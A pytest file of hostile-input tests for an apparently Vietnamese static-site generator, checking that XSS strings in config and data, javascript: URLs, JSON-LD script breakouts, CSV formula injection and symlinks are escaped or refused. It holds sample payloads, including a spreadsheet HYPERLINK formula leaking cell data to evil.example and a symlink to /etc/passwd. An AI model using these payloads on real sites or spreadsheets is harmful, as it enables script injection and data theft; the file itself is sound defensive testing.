"""A hostile contributor against the build itself (slow: real builds): mkdocs.yml payloads, text that tries
to break out of the JSON-LD script, spreadsheet formulas in downloads, symlinked content and templates, and
builds killed at the worst moment."""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import signal
import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from openpyxl import load_workbook

from conftest import FIXTURES, ROOT, make_project, run_cli

pytestmark = pytest.mark.slow
DECISION = "data/decisions/2024/12-qd-ubnd.yaml"


def _build(project: Path, *extra: str):
    return run_cli("build", "--config", str(project / "mkdocs.yml"), "--site-dir", str(project / "site"), *extra,
                   cwd=project)


class _Dom(HTMLParser):
    """Elements as a browser's tokenizer sees them: scripts' text, and whether the footer survives."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.scripts: list[dict] = []
        self.footer = False
        self._script = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "footer":
            self.footer = True
        if tag == "script":
            self._script = {"type": attrs.get("type"), "text": ""}
            self.scripts.append(self._script)

    def handle_data(self, data):
        if self._script is not None:
            self._script["text"] += data

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = None


@pytest.mark.parametrize("payload", ["<img src=x onerror=alert(1)>", "\"><script>alert(1)</script>",
                                     "</title><script>alert(1)</script>"])
def test_mkdocs_yml_values_are_escaped(tmp_path, payload):
    project = make_project(tmp_path, FIXTURES / "minimal" / "data")
    config = project / "mkdocs.yml"
    text = config.read_text("utf-8")
    text = text.replace("site_name: Bảng Vàng tỉnh Hòa An", f"site_name: {json.dumps('Hòa An ' + payload)}")
    text = text.replace('copyright: "', f'copyright: {json.dumps(payload)} # "', 1)
    config.write_text(text, "utf-8")
    result = _build(project)
    assert result.returncode == 0, result.stderr
    for page in (project / "site").rglob("*.html"):
        html = page.read_text("utf-8")
        assert "<img src=x" not in html and "<script>alert" not in html, page
    assert "&lt;img src=x onerror=alert(1)&gt;" in (project / "site/index.html").read_text("utf-8") \
        or "&lt;/title&gt;" in (project / "site/index.html").read_text("utf-8") \
        or "&#34;&gt;&lt;script&gt;" in (project / "site/index.html").read_text("utf-8")


@pytest.mark.parametrize("setting, value", [("extra:\n  homepage", "javascript:alert(1)"),
                                            ("history_url", "javascript:alert(1)//"),
                                            ("site_url", "javascript:alert(1)")])
def test_url_settings_must_be_http(tmp_path, setting, value):
    project = make_project(tmp_path, FIXTURES / "minimal" / "data")
    config = project / "mkdocs.yml"
    text = config.read_text("utf-8")
    if setting == "history_url":
        text = text.replace('history_url: ""', f'history_url: "{value}"')
    elif setting == "site_url":
        text = text.replace("site_url: https://bangvang-hoa-an.example/", f"site_url: {value}")
    else:
        text = text.replace("extra:\n", f"extra:\n  homepage: {value}\n", 1)
    config.write_text(text, "utf-8")
    result = _build(project)
    wanted = "giá trị của «site_url» không hợp lệ" if setting == "site_url" else "phải là địa chỉ http:// hoặc https://"
    assert result.returncode == 1 and wanted in result.stderr, result.stderr
    assert "Traceback" not in result.stderr and not (project / "site").exists()


def test_text_cannot_break_out_of_the_json_ld_script(tmp_path):
    """`<!--<script` puts an HTML parser into the "double-escaped" state unless it is escaped: every text
    field holds it, and the JSON-LD still parses, no other script appears, and the footer is intact."""
    project = make_project(tmp_path, FIXTURES / "minimal" / "data")
    evil = "<!--<script>x</script><!--"
    for rel in (DECISION, "data/profiles/nguyen-van-a.yaml"):
        path = project / rel
        text = path.read_text("utf-8")
        for field in ("title", "reason", "summary", "achievement", "name"):
            text = text.replace(f'{field}: "', f'{field}: "{evil} ', 1) if f'{field}: "' in text else text
        path.write_text(text, "utf-8")
    result = _build(project)
    assert result.returncode == 0, result.stderr
    for rel in ("quyet-dinh/2024/12-qd-ubnd/index.html", "guong-dien-hinh/nguyen-van-a/index.html"):
        dom = _Dom()
        dom.feed((project / "site" / rel).read_text("utf-8"))
        assert dom.footer, rel
        ld = [s for s in dom.scripts if s["type"] == "application/ld+json"]  # breadcrumbs, then the record
        assert len(ld) == 2 and all("<" not in s["text"] for s in ld)
        assert [json.loads(s["text"])["@type"] for s in ld][0] == "BreadcrumbList"
        assert evil in json.dumps(json.loads(ld[1]["text"]), ensure_ascii=False)
        if rel.startswith("guong-dien-hinh/"):  # the profile's name is the breadcrumbs' last level
            assert evil in json.loads(ld[0]["text"])["itemListElement"][-1]["name"]


def test_csv_cells_that_would_be_formulas_are_neutralised_and_stay_text_in_the_workbook(tmp_path):
    project = make_project(tmp_path, FIXTURES / "minimal" / "data")
    path = project / DECISION
    formula = '=HYPERLINK("https://evil.example/?leak="&B2,"Xem")'
    text = path.read_text("utf-8").replace('name: "Trần Thị B"', f"name: '{formula}'")
    text = text.replace('achievement: "Dạy giỏi"', 'achievement: "+1+1"').replace('position: "Hiệu trưởng"',
                                                                                     'position: "@SUM(A1)"')
    path.write_text(text, "utf-8")
    assert _build(project).returncode == 0
    for rel in ("site/du-lieu/2024/nguoi-nhan.csv.gz", "site/quyet-dinh/2024/12-qd-ubnd/danh-sach.csv"):
        data = (project / rel).read_bytes()
        text = (gzip.decompress(data) if rel.endswith(".gz") else data).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text)))
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], rel
        assert "'" + formula in cells and "'+1+1" in cells and "'@SUM(A1)" in cells
    # the workbook needs no guard: the same values are text cells, never formulas
    book = load_workbook(project / "site/du-lieu/2024/khen-thuong-2024.xlsx")
    kinds = {cell.value: cell.data_type for row in book.worksheets[0].iter_rows() for cell in row}
    assert (kinds[formula], kinds["+1+1"], kinds["@SUM(A1)"]) == ("s", "s", "s")


@pytest.mark.parametrize("tree_name", ["content", "site_templates"])
def test_symlinked_content_or_template_stops_the_build(tmp_path, tree_name):
    project = make_project(tmp_path, FIXTURES / "minimal" / "data")
    link = project / tree_name / ("bi-mat.md" if tree_name == "content" else "assets/bi-mat.css")
    link.symlink_to("/etc/passwd")
    result = _build(project)
    assert result.returncode == 1 and f"{tree_name}/" in result.stderr and "symlink" in result.stderr
    assert not (project / "site").exists()


def test_a_redirect_onto_a_file_path_is_a_message(tmp_path):
    project = make_project(tmp_path, FIXTURES / "minimal" / "data")
    (project / "data/redirects.yaml").write_text("- old: cap-nhat.atom/\n  new: quyet-dinh/\n", "utf-8")
    result = _build(project)
    assert result.returncode == 1, result.stderr
    assert "data/redirects.yaml:1: «cap-nhat.atom/» trùng với tệp cap-nhat.atom của trang" in result.stderr
    assert "Errno" not in result.stderr and "Traceback" not in result.stderr


def test_a_killed_build_leaves_nothing_behind_and_the_manifest_whole(tmp_path):
    """Kill builds at random moments (while the site is written, while the manifest is replaced): the previous
    site and manifest stay whole, and the next build removes every temporary directory."""
    project = make_project(tmp_path, ROOT / "data")
    (project / "published-urls.txt").write_text((ROOT / "published-urls.txt").read_text("utf-8"), "utf-8")
    assert _build(project).returncode == 0
    manifest = (project / "published-urls.txt").read_text("utf-8")
    env = {**os.environ, "BANGVANG_TODAY": "2026-11-25", "PYTHONPATH": str(ROOT)}
    for delay in (1.0, 2.5, 4.0):
        proc = subprocess.Popen([sys.executable, "-m", "generator", "build", "--site-dir", str(project / "site")],
                                cwd=project, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                start_new_session=True)
        time.sleep(delay)
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
        assert (project / "published-urls.txt").read_text("utf-8") == manifest
        assert (project / "site/index.html").is_file()
    assert _build(project).returncode == 0
    assert not list(project.glob("site.tmp-*")) and not list(project.glob(".published-urls.txt.tmp-*"))
    assert (project / "published-urls.txt").read_text("utf-8") == manifest
